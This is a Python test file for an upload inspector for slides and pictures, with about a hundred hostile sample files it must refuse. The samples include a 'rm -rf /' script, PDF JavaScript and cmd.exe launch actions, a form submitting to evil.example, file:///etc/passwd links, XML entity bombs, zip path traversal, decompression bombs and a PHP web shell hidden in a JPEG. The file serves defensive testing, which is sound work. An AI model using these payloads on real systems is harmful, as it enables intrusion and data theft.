"""Uploads of strangers: slides come in, and nothing that acts, hides, floods or is something else."""

import io
import tracemalloc
import zipfile
import zlib

import pytest

from core.formats.inspection import LARGEST, Unsafe, inspect
from tests.core.formats.inspection.making import (
    RELATIONS,
    SLIDE,
    huge_png,
    jpeg,
    odp,
    packed_objects,
    pdf,
    png,
    pptx,
    pptx_parts,
    relation,
    with_flag,
    with_wrong_size,
    zipped,
)

JS = b"8 0 obj\n<</S/JavaScript/JS(app.alert\\(1\\))>>\nendobj\n"
BOMB = b"\0" * (200 * 1024 * 1024)
LINK = relation("hyperlink", "https://example.org/")
DOCTYPE = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'

GOOD = {
    "plain.pdf": pdf(),
    "UPPER.PDF": pdf(),
    "packed.pdf": pdf(packed_objects(b"1 0 <</Type/Font>>")),
    "words.pdf": pdf(b"5 0 obj\n(We talked about JavaScript and how to launch)\nendobj\n"),
    "plain.pptx": pptx(),
    "linked.pptx": pptx(relations=LINK),
    "mail.pptx": pptx(relations=relation("hyperlink", "mailto:ona@example.org")),
    "plain.odp": odp(),
    "linked.odp": odp(content='<text:a xlink:href="https://example.org/">x</text:a>'),
    "picture.odp": odp(content='<draw:image xlink:href="Pictures/one.png"/>'),
    "plain.png": png(),
    "plain.jpg": jpeg(),
    "plain.jpeg": jpeg(),
}


@pytest.mark.parametrize("name", GOOD)
def test_slides_and_pictures_are_taken(name: str) -> None:
    file = io.BytesIO(GOOD[name])
    assert inspect(name, file).suffix == "." + name.rpartition(".")[2].lower()
    assert file.tell() == 0


def obj(told: bytes) -> bytes:
    return b"8 0 obj\n<<%s>>\nendobj\n" % told


HOSTILE: dict[str, tuple[str, bytes]] = {
    # Not on the list.
    "a program": ("slides.exe", b"MZ\x90\0" + b"\0" * 200),
    "a script": ("slides.sh", b"#!/bin/sh\nrm -rf /\n"),
    "a page": ("slides.html", b"<script>alert(1)</script>"),
    "a drawing with a script": ("logo.svg", b"<svg onload='alert(1)' xmlns='http://www.w3.org/2000/svg'/>"),
    "macros by name": ("slides.pptm", pptx()),
    "old slides": ("slides.ppt", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "an archive": ("slides.zip", pptx()),
    "a document": ("report.docx", pptx()),
    "two endings": ("slides.pdf.exe", pdf()),
    "no ending": ("slides", pdf()),
    "an ending after a line": ("slides.pdf\n.exe", pdf()),
    "nothing": ("slides.pdf", b""),
    "too much": ("slides.pdf", pdf() + b" " * LARGEST),
    # Something else than its name says.
    "a page called PDF": ("slides.pdf", b"<html><script>alert(1)</script>"),
    "a PDF called picture": ("slides.png", pdf()),
    "a picture called PDF": ("slides.pdf", png()),
    "an archive called slides": ("slides.pptx", zipped({"x.txt": "x"})),
    "text slides called PPTX": ("slides.pptx", odp()),
    "slides called ODP": ("slides.odp", pptx()),
    "a PDF behind a page": ("slides.pdf", b"<html>" + pdf()),
    "half a PDF": ("slides.pdf", pdf()[:80]),
    "half an archive": ("slides.pptx", pptx()[:-40]),
    "half a picture": ("slides.png", png()[:-15]),
    "half a photograph": ("slides.jpg", jpeg()[:-2]),
    "rubbish": ("slides.jpg", b"\xff\xd8\xff" + b"rubbish" * 40 + b"\xff\xd9"),
    # PDF that acts.
    "a PDF with a script": ("slides.pdf", pdf(JS)),
    "a script in other letters": ("slides.pdf", pdf(JS.replace(b"/JavaScript", b"/J#61vaScr#69pt"))),
    "a packed script": ("slides.pdf", pdf(packed_objects(JS))),
    "a packed script in other letters": (
        "slides.pdf",
        pdf(packed_objects(JS.replace(b"/JavaScript", b"/#4aavaScript"))),
    ),
    "a script packed behind much": ("slides.pdf", pdf(packed_objects(b" " * 3_000_000 + JS))),
    "a script packed in hidden letters": (
        "slides.pdf",
        pdf(packed_objects(JS, b"/Type/Obj#53tm/Filter/FlateDecode")),
    ),
    "a script packed twice": (
        "slides.pdf",
        pdf(packed_objects(zlib.compress(JS), b"/Type/ObjStm/Filter[/FlateDecode/FlateDecode]")),
    ),
    "a script packed otherwise": ("slides.pdf", pdf(packed_objects(JS, b"/Type/ObjStm/Filter/LZWDecode"))),
    "a script behind a false word": (
        "slides.pdf",
        pdf(packed_objects(JS, b"/Type/ObjStm/Filter/FlateDecode/X(1 0 obj)")),
    ),
    "a stream without its line": (
        "slides.pdf",
        pdf(packed_objects(JS).replace(b">>\nstream\n", b">>\nstream ")),
    ),
    "a broken packed object": ("slides.pdf", pdf(packed_objects(JS).replace(b"stream\nx", b"stream\ny"))),
    "a program to start": ("slides.pdf", pdf(obj(b"/S/Launch/F(cmd.exe)"))),
    "a file within": ("slides.pdf", pdf(obj(b"/Names<</EmbeddedFiles 9 0 R>>"))),
    "a file within, by type": ("slides.pdf", pdf(obj(b"/Type/EmbeddedFile"))),
    "a form that sends": ("slides.pdf", pdf(obj(b"/S/SubmitForm/F(http://evil.example)"))),
    "a form of XML": ("slides.pdf", pdf(obj(b"/AcroForm<</XFA[(a) 9 0 R]>>"))),
    "a film": ("slides.pdf", pdf(obj(b"/Subtype/RichMedia"))),
    "a body of three dimensions": ("slides.pdf", pdf(obj(b"/Subtype/3D/3DD 9 0 R"))),
    "another document": ("slides.pdf", pdf(obj(b"/S/GoToR/F(\\\\\\\\evil\\\\share)"))),
    "a document in a file": ("slides.pdf", pdf(obj(b"/S/GoToE"))),
    "a PDF that is locked": ("slides.pdf", pdf(obj(b"/Encrypt 9 0 R"))),
    "an archive behind a PDF": ("slides.pdf", pdf(tail=zipped({"evil.js": "x"}))),
    "a page behind a PDF": ("slides.pdf", pdf(tail=b"<script>alert(1)</script>")),
    "a PDF in a PDF": ("slides.pdf", pdf(b"%PDF-1.4\n")),
    "a flood in a PDF": ("slides.pdf", pdf(packed_objects(BOMB))),
    # PPTX that acts.
    "macros": ("slides.pptx", pptx({"ppt/vbaProject.bin": b"x"})),
    "macros in other letters": ("slides.pptx", pptx({"ppt/VBAPROJECT.BIN": b"x"})),
    "macros by type": (
        "slides.pptx",
        pptx(types='<Override PartName="/x" ContentType="application/vnd.ms-office.vbaProject"/>'),
    ),
    "a presentation with macros": (
        "slides.pptx",
        zipped(
            pptx_parts()
            | {
                "[Content_Types].xml": '<Types><Override PartName="/ppt/presentation.xml" '
                'ContentType="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"/></Types>'
            }
        ),
    ),
    "an object": ("slides.pptx", pptx({"ppt/embeddings/oleObject1.bin": b"x"})),
    "a workbook within": ("slides.pptx", pptx({"ppt/embeddings/book.xlsx": b"x"})),
    "an object by relation": ("slides.pptx", pptx(relations=relation("oleObject", "x", "Internal"))),
    "a button that acts": ("slides.pptx", pptx(relations=relation("control", "x", "Internal"))),
    "a template from elsewhere": (
        "slides.pptx",
        pptx(relations=relation("attachedTemplate", "http://evil/x")),
    ),
    "a picture from elsewhere": ("slides.pptx", pptx(relations=relation("image", "http://evil/x.png"))),
    "a link to a file": ("slides.pptx", pptx(relations=relation("hyperlink", "file:///etc/passwd"))),
    "a link to a share": ("slides.pptx", pptx(relations=relation("hyperlink", "\\\\evil\\share"))),
    "a link to a script": ("slides.pptx", pptx(relations=relation("hyperlink", "javascript:alert(1)"))),
    "a click that starts": ("slides.pptx", pptx(slide='<a:hlinkClick action="ppaction://program"/>')),
    "a click that runs": ("slides.pptx", pptx(slide='<a:hlinkClick action="ppaction://macro?name=x"/>')),
    "an object on a slide": ("slides.pptx", pptx(slide="<p:oleObj/>")),
    "a program within": ("slides.pptx", pptx({"ppt/evil.exe": b"MZ"})),
    "a page within": ("slides.pptx", pptx({"ppt/evil.html": b"<script>"})),
    "entities": ("slides.pptx", pptx({"ppt/slides/slide2.xml": DOCTYPE})),
    "entities in relations": ("slides.pptx", pptx({"ppt/_rels/presentation.xml.rels": DOCTYPE})),
    "entities in another alphabet": ("slides.pptx", pptx({"ppt/slides/s.xml": DOCTYPE.encode("utf-16")})),
    "no XML": ("slides.pptx", pptx({"ppt/slides/slide2.xml": "<broken"})),
    "a way out": ("slides.pptx", pptx({"../../evil.xml": SLIDE.format("")})),
    "a way to the root": ("slides.pptx", pptx({"/etc/evil.xml": SLIDE.format("")})),
    "a locked part": ("slides.pptx", with_flag(pptx(), "ppt/slides/slide1.xml", 1)),
    "words behind the archive": ("slides.pptx", pptx() + b"<script>alert(1)</script>"),
    "a comment of the archive": ("slides.pptx", zipped(pptx_parts(), comment=b"%PDF-1.4")),
    "a PDF before the archive": ("slides.pptx", b"PK\x03\x04%PDF-1.4\n" + pptx()),
    "a program before the archive": ("slides.pptx", b"PK\x03\x04" + b"MZ" * 20 + pptx()),
    "many parts": ("slides.pptx", pptx({f"ppt/{number}.xml": "" for number in range(3001)})),
    "a flood": ("slides.pptx", pptx({"ppt/media/image2.png": BOMB})),
    "a flood of XML": (
        "slides.pptx",
        pptx({"ppt/slides/slide2.xml": "<a>" + " " * (30 * 1024 * 1024) + "</a>"}),
    ),
    "a flood that lies": (
        "slides.pptx",
        with_wrong_size(pptx({"ppt/slides/slide9.xml": b" " * 50_000_000}), "ppt/slides/slide9.xml", 10),
    ),
    "relations without end": ("slides.pptx", pptx(relations=RELATIONS * 2 + "<")),
    # ODP that acts.
    "Basic": ("slides.odp", odp({"Basic/script-lc.xml": "<x/>"})),
    "scripts": ("slides.odp", odp({"Scripts/python/evil.py": "x"})),
    "an object of another program": ("slides.odp", odp({"Object 1/content.xml": "<x/>"})),
    "a listener": ("slides.odp", odp(content='<script:event-listener xmlns:script="s"/>')),
    "an applet": ("slides.odp", odp(content="<draw:applet/>")),
    "a plugin": ("slides.odp", odp(content="<draw:plugin/>")),
    "an OLE object": ("slides.odp", odp(content="<draw:object-ole/>")),
    "a frame": ("slides.odp", odp(content="<draw:floating-frame/>")),
    "a picture fetched": ("slides.odp", odp(content='<draw:image xlink:href="http://evil/x.png"/>')),
    "a picture of the computer": ("slides.odp", odp(content='<draw:image xlink:href="../../etc/passwd"/>')),
    "a link that acts": ("slides.odp", odp(content='<text:a xlink:href="vnd.sun.star.script:x"/>')),
    "locked slides": ("slides.odp", odp(manifest="<manifest:encryption-data/>")),
    # Pictures that are more.
    "an archive behind a picture": ("a.png", png(tail=zipped({"evil.js": "x"}))),
    "a page behind a picture": ("a.png", png(tail=b"<script>")),
    "an archive behind a photograph": ("a.jpg", jpeg(zipped({"evil.js": "x"}))),
    "a program in a photograph": ("a.jpg", jpeg()[:-2] + b"<?php system($_GET[0]); ?>\xff\xd9"),
    "a picture too large": ("a.png", huge_png()),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_are_refused(name: str) -> None:
    called, content = HOSTILE[name]
    with pytest.raises(Unsafe) as refused:
        inspect(called, io.BytesIO(content))
    assert str(refused.value)


def test_there_are_as_many_as_were_promised() -> None:
    assert len(HOSTILE) >= 90


@pytest.mark.parametrize("name", ["a flood", "a flood of XML", "a flood that lies", "a flood in a PDF"])
def test_memory_stays_bounded(name: str) -> None:
    called, content = HOSTILE[name]
    file = io.BytesIO(content)
    tracemalloc.start()
    try:
        with pytest.raises(Unsafe):
            inspect(called, file)
        _now, most = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert most < 64 * 1024 * 1024


def test_a_good_file_stays_good_when_nothing_else_is_added() -> None:
    """The control of the tests above: what makes them red is what was added, and not how slides are made."""
    with zipfile.ZipFile(io.BytesIO(pptx())) as archive:
        again = zipped({name: archive.read(name) for name in archive.namelist()})
    inspect("slides.pptx", io.BytesIO(again))
    inspect("slides.pdf", io.BytesIO(pdf(obj(b"/S/GoTo/D(2)"))))
